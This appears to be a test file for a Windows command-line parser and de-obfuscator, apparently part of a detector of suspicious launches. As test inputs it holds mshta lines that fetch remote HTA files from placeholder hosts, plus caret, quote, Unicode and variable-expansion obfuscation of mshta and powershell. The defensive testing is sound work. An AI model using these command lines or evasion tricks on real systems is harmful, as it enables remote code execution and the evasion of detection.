import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { argumentText, commandLineArguments, namedFiles, normaliseCommandLine } from './commandLine';

describe('commandLineArguments', () => {
  it.each([
    // The table of "Parsing C command-line arguments", after a program's name.
    ['x "abc" d e', ['x', 'abc', 'd', 'e']],
    ['x a\\\\b d"e f"g h', ['x', 'a\\\\b', 'de fg', 'h']],
    ['x a\\\\\\"b c d', ['x', 'a\\"b', 'c', 'd']],
    ['x a\\\\\\\\"b c" d e', ['x', 'a\\\\b c', 'd', 'e']],
    ['x a"b"" c d', ['x', 'ab" c d']],
    ['x "" y', ['x', '', 'y']],
    ['x "say ""hi"" now"', ['x', 'say "hi" now']],
    ['x "unfinished business', ['x', 'unfinished business']],
    // Blanks: any number of them, tabs too, none at either end.
    ['mshta  vbscript:Close', ['mshta', 'vbscript:Close']],
    ['  x\ty  ', ['x', 'y']],
    ['x "a\tb"', ['x', 'a\tb']],
    ['', []],
    ['   ', []],
    // In the program's name a backslash before a quote is a backslash.
    ['"C:\\Program Files\\a.exe" b', ['C:\\Program Files\\a.exe', 'b']],
    ['"C:\\tools\\" b', ['C:\\tools\\', 'b']],
    ['C:\\"Program Files"\\a.exe b', ['C:\\Program Files\\a.exe', 'b']],
    ['"C:\\a.exe', ['C:\\a.exe']],
    // A trailing backslash in quotes swallows the quote, in arguments only.
    ['x "C:\\dir\\" b', ['x', 'C:\\dir" b']],
    ['x "C:\\dir\\\\" b', ['x', 'C:\\dir\\', 'b']],
  ])('%s', (line, args) => {
    expect(commandLineArguments(line)).toEqual(args);
  });

  it('gives back the arguments that a careful program quoted', () => {
    const quote = (text: string): string =>
      `"${text.replace(/(\\*)"/g, '$1$1\\"').replace(/(\\+)$/, '$1$1')}"`;
    const argument = fc
      .array(fc.oneof(fc.constantFrom('\\', '"', ' ', '\t', 'a'), fc.string()))
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(argument, { maxLength: 5 }), (args) => {
        expect(commandLineArguments(['x', ...args.map(quote)].join(' ')).slice(1)).toEqual(args);
      }),
    );
  });

  it('looks at no more than 512 arguments', () => {
    expect(commandLineArguments('a '.repeat(1000))).toHaveLength(512);
  });

  it('never throws, and makes nothing up', () => {
    fc.assert(
      fc.property(hostileLine, (line) => {
        expect(commandLineArguments(line).join('').length).toBeLessThanOrEqual(line.length);
      }),
    );
  });
});

describe('argumentText', () => {
  it.each([
    ['mshta.exe https://a.example/x.hta', 'https://a.example/x.hta'],
    ['"C:\\Program Files\\a.exe"   -x "b c"', '-x "b c"'],
    ['C:\\"Program Files"\\a.exe -x', '-x'],
    ['mshta', ''],
    ['', ''],
    ['"C:\\unfinished business', ''],
    ['  mshta \t x', 'x'],
    // Only blanks and tabs end an argument; a line break is part of one.
    ['mshta \n', '\n'],
  ])('%s: %s', (line, text) => {
    expect(argumentText(line)).toBe(text);
  });

  it('is empty exactly when there are no arguments', () => {
    fc.assert(
      fc.property(hostileLine, (line) => {
        if (argumentText(line) === '') expect(commandLineArguments(line).length).toBeLessThanOrEqual(1);
        else expect(argumentText(line)).not.toMatch(/^[ \t]/);
      }),
    );
  });
});

describe('normaliseCommandLine', () => {
  it.each([
    ['a caret before a letter', 'm^s^hta ht^tp://a', 'mshta http://a'],
    ['a doubled caret', 'echo a^^b', 'echo a^b'],
    ['a caret at the end', 'mshta^', 'mshta'],
    ['empty quotes inside a word', 'm""sh""ta', 'mshta'],
    ['quotes around part of a word', 'ms"ht"a', 'mshta'],
    ['quotes around a long part of a word', 'p"owers"hell c"ert"util', 'powershell certutil'],
    ['several pairs in one word', 'm"s"h"t"a', 'mshta'],
    ['dashes that are none', 'powershell \u2013enc \u2014nop \u2015w \u2212x', 'powershell -enc -nop -w -x'],
    ['slashes that are none', 'cmd \u2215c dir \u2044s \uff0fb', 'cmd /c dir /s /b'],
    ['blanks that are none', 'cmd\u00a0/c\u00a0dir', 'cmd /c dir'],
    ['zero-width characters', 'm\u200bs\u200dh\ufeffta', 'mshta'],
    ['soft hyphens and braille blanks', 'ms\u00adh\u2800ta', 'mshta'],
    ['variation selectors and fillers', 'ms\ufe00h\u3164t\u034fa', 'mshta'],
    ['text turned around', 'ms\u202eht\u202ca', 'mshta'],
    ['full-width letters', '\uff4d\uff53\uff48\uff54\uff41', 'mshta'],
    ['modifier letters', 'ms\u02b0ta', 'mshta'],
    ['quotation marks that are none', '\u201cmshta\u201d \u2018a\u2019', '"mshta" \'a\''],
    ['backticks', 'p`owers`hell', 'powershell'],
    ['strings put together', "iex('ms'+'h' + 'ta')", "iex('mshta')"],
    ['parts of variables that are the same everywhere', '%comspec:~-7,3% %ComSpec:~0,1%', 'cmd c'],
    [
      'variables that the line sets',
      'cmd /c "set x=mshta&&call %x% a.hta"',
      'cmd /c "set x=mshta&&call mshta a.hta"',
    ],
    [
      'delayed expansion',
      'cmd /v /c "set a=ms&set b=hta&!a!!b! x"',
      'cmd /v /c "set a=ms&set b=hta&mshta x"',
    ],
    ['replacement in variables', 'cmd /c set q=mXshXta& call %q:X=%', 'cmd /c set q=mXshXta& call mshta'],
    ['percent-encoding', 'mshta http://a.example/%65vil%2ehta', 'mshta http://a.example/evil.hta'],
  ])('removes %s', (_, written, read) => {
    expect(normaliseCommandLine(written)).toBe(read);
  });

  it.each([
    'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\m.keller\\a b.docx"',
    '"C:\\Program Files\\7-Zip\\7z.exe" x "a.zip" -o"out"',
    'msiexec /i "C:\\a.msi" PROPERTY="value" /qn',
    'app.exe --json {"key":"value"}',
    'cmd /c "echo a^b"',
    'cmd /c echo %PATH% 100% %~dp0 %comspec%',
    // What cannot be decoded stays to be seen as what it is.
    'cmd /c %foo:~1,2%md !bar!',
    'powershell -c "a `n b"',
    'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
    'notepad "C:\\Übung\\résumé.txt"',
  ])('leaves %s as it is', (line) => {
    expect(normaliseCommandLine(line)).toBe(line);
  });

  it('never throws, and is at most as much longer as compatibility forms can be', () => {
    fc.assert(
      fc.property(hostileLine, (line) => {
        expect(normaliseCommandLine(line).length).toBeLessThanOrEqual(18 * line.length);
      }),
    );
  });
});

describe('namedFiles', () => {
  it.each([
    ['C:\\Windows\\System32\\mshta.exe C:\\a\\b.hta', ['C:\\Windows\\System32\\mshta.exe', 'C:\\a\\b.hta']],
    ['wscript b.js', ['b.js']],
    ['mshta b.txt:evil.hta', ['b.txt:evil.hta']],
    ['msiexec /i:C:\\a.msi', ['C:\\a.msi']],
    ['chrome --app=C:\\a.svg', ['C:\\a.svg']],
    ['rundll32 C:\\a.dll,Run', ['C:\\a.dll,Run', 'C:\\a.dll']],
    ['msedge file:///C:/a%20b.svg', ['file:///C:/a%20b.svg']],
    ['cmd /c "copy C:\\a\\b.svg D:\\c.svg"', ['copy C:\\a\\b.svg D:\\c.svg', 'C:\\a\\b.svg', 'D:\\c.svg']],
    ["powershell Copy-Item 'C:\\a b\\c.js' x", ["'C:\\a", "b\\c.js'", 'C:\\a b\\c.js']],
    ['powershell -c "& $env:TEMP\\a.ps1"', ['& $env:TEMP\\a.ps1', '$env:TEMP\\a.ps1']],
    ['cmd /c "type %TEMP%\\a.hta"', ['type %TEMP%\\a.hta', '%TEMP%\\a.hta']],
    ['x \\\\srv\\share\\a.exe', ['\\\\srv\\share\\a.exe']],
    // Blanks that nobody quoted: the browser's last argument, and programs that read their line themselves.
    ['msedge --single-argument C:\\a b\\Invoice v1.2 of May.svg', ['C:\\a b\\Invoice v1.2 of May.svg']],
    ['msedge --single-argument "C:\\a b.svg"', ['C:\\a b.svg']],
    ['msedge --single-argument https://a.example/b c.svg', []],
    ['mshta C:\\a b.hta', ['C:\\a', 'b.hta', 'C:\\a b.hta']],
    ['copy C:\\a D:\\b.svg', ['C:\\a', 'D:\\b.svg']],
    ['x C:\\a -o b.svg', ['C:\\a', 'b.svg']],
    // No files.
    ['mshta https://a.example/x.hta', []],
    ['mshta vbscript:Close(Execute("a.b"))', []],
    ['setup /quiet /norestart --type -nop', []],
    ['x a b cd', []],
    [`x C:\\${'a'.repeat(1100)}`, []],
  ])('%s', (line, files) => {
    expect(namedFiles(commandLineArguments(line))).toEqual(files);
  });

  it('never throws, and names a bounded number of files', () => {
    fc.assert(
      fc.property(fc.array(hostileLine), (args) => {
        expect(namedFiles(args).length).toBeLessThanOrEqual(84);
      }),
    );
    expect(namedFiles(Array.from({ length: 512 }, () => 'a C:\\b.c'.repeat(100))).length).toBeLessThan(85);
  });
});

describe('a command line as long as Windows allows', () => {
  it.each([
    ['drives', 'x "a c:\\'],
    ['shares', 'x "a \\\\a\\'],
    ['variables', 'x "a %a%\\'],
    ['open quotes', 'x "a'],
    ['backslashes', '\\\\\\'],
    ['carets', 'a^"^'],
    ['percent signs', '%4'],
    ['quoted letters', 'a"b"'],
    ['switches', '-a=b/'],
    ['settings', 'set a=%a%%a%&'],
    ['uses', '%a:~1%!'],
  ])('is read at once, full of %s', (_, piece) => {
    const start = piece.startsWith('x "') ? 'x "' : '';
    const line = start + piece.slice(start.length).repeat(Math.floor(32_000 / piece.length));
    for (let i = 0; i < 20; i++) {
      const normalised = normaliseCommandLine(line);
      namedFiles(commandLineArguments(line));
      namedFiles([line.slice(0, 8000), normalised]);
      argumentText(line);
    }
  });
});

const hostileLine = fc
  .array(
    fc.oneof(
      fc.constantFrom('"', '\\', ' ', '\t', '^', '%', '%41', '""', '/', '-', ',', '=', ':', '\n'),
      fc.constantFrom(
        'C:\\',
        '\\\\srv\\',
        'a.hta',
        'file:',
        'http://',
        '/i:',
        '%temp%\\',
        '\ufdfa',
        '\ud800',
      ),
      fc.string({ maxLength: 4, unit: 'binary' }),
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(''));
